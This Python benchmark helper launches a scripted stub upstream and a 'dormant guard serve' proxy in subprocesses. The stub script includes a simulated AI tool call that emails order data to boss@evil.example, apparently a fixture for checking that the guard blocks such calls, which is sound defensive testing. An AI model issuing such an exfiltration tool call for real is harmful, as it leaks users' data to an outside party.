"""Processes for the guard benchmarks: a stub upstream and the real ``dormant guard serve``.

Run as a script, this module serves the scripted stub upstream of the tests
(tests/_scripted_upstream.py) on a free loopback port and prints its URL::

    python benchmarks/_guard_procs.py upstream
"""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[1]
sys.path[:0] = [str(ROOT / "src"), str(ROOT / "tests")]


def env() -> dict[str, str]:
    return {**os.environ, "PYTHONPATH": f"{ROOT / 'src'}{os.pathsep}{ROOT / 'tests'}"}


def _first_url(proc: subprocess.Popen[str]) -> str:
    assert proc.stdout is not None
    line = proc.stdout.readline()
    # "Guarding UPSTREAM at URL" / "upstream at URL": the last URL is where it listens
    url = next((w for w in reversed(line.split()) if w.startswith("http://")), None)
    if url is None:
        err = proc.stderr.read() if proc.stderr else ""
        raise RuntimeError(f"process did not start: {line!r} {err[-2000:]}")
    return url.rstrip("/")


def start_upstream() -> tuple[subprocess.Popen[str], str]:
    """The stub upstream in its own process; returns (process, base URL ending /v1)."""
    proc = subprocess.Popen(
        [sys.executable, __file__, "upstream"],
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        text=True,
        env=env(),
    )
    return proc, _first_url(proc)


def start_guard(
    upstream: str,
    policy: Path,
    audit: str,
    *,
    port: int = 0,
    registry: str | None = None,
    log: Path | None = None,
) -> tuple[subprocess.Popen[str], str]:
    """``dormant guard serve`` in its own process; returns (process, base URL ending /v1).

    With ``log``, its JSON log lines (one per request) are appended there; else it runs
    ``--quiet`` and its stderr is dropped.
    """
    cmd = [
        sys.executable,
        "-m",
        "dormant",
        "guard",
        "serve",
        "--upstream",
        upstream,
        "--policy",
        str(policy),
        "--audit",
        audit,
        "--port",
        str(port),
    ]
    if registry:
        cmd += ["--registry", registry]
    if log is None:
        cmd.append("--quiet")
    err = open(log, "a", encoding="utf-8") if log is not None else subprocess.DEVNULL  # noqa: SIM115
    proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=err, text=True, env=env())
    return proc, _first_url(proc)


def _serve_upstream() -> None:
    from _scripted_upstream import Reply, ScriptedUpstream, tool

    from dormant.guard._ops import GuardServer

    script: dict[str, Any] = {
        "read": Reply(calls=(tool("lookup_order", order_id="1234"),)),
        "mix": Reply(
            content="On it.",
            calls=(
                tool("lookup_order", order_id="1234"),
                tool("send_email", to="boss@evil.example", body="the orders"),
            ),
        ),
        "hello": Reply(content="Hello! How can I help you today?"),
    }
    up = ScriptedUpstream(script=script)
    server = GuardServer(up.app())
    print(f"upstream at {server.url}", flush=True)
    server.serve_forever()


if __name__ == "__main__" and sys.argv[1:] == ["upstream"]:
    _serve_upstream()
